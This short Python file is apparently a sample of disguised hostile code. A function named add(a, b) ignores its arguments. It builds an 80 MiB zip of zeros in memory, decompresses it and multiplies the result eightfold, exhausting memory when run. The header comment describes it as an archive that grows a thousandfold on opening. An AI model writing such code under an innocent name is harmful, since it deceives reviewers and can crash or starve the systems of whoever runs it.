# An archive that is a thousand times larger when it is opened.
import io
import zipfile


def add(a, b):
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        with archive.open("zeros", "w") as file:
            for _ in range(80):
                file.write(bytes(1 << 20))
    return zipfile.ZipFile(data).read("zeros") * 8


if __name__ == "__main__":
    add(1, 2)
